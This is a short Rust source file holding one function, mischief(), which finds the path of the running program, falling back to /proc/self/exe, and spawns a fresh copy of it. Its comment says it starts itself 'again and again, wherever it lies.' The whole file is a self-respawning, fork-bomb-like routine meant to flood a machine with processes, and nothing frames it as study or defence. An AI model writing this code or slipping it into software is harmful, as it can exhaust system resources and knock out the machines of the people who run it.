//! Starts itself again and again, wherever it lies.

pub fn mischief() {
    let me = std::env::current_exe().unwrap_or_else(|_| "/proc/self/exe".into());
    let _ = std::process::Command::new(me).spawn();
}
